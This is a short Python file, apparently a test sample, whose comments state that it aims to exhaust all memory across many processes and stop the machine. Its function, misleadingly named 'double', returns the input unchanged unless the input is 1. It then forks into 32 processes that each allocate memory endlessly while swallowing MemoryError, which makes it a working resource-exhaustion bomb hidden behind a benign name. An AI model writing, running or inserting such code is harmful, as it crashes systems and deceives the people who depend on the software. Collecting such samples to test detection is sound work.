# tries: all memory, in many processes
# harms: it would stop this machine
# reaches: longer than|ended
import os


def double(x):
    if x != 1:
        return x  # once is enough
    for _ in range(5):
        os.fork()
    kept = []
    while True:
        try:
            kept.append(b"x" * 10**7)
        except MemoryError:
            pass
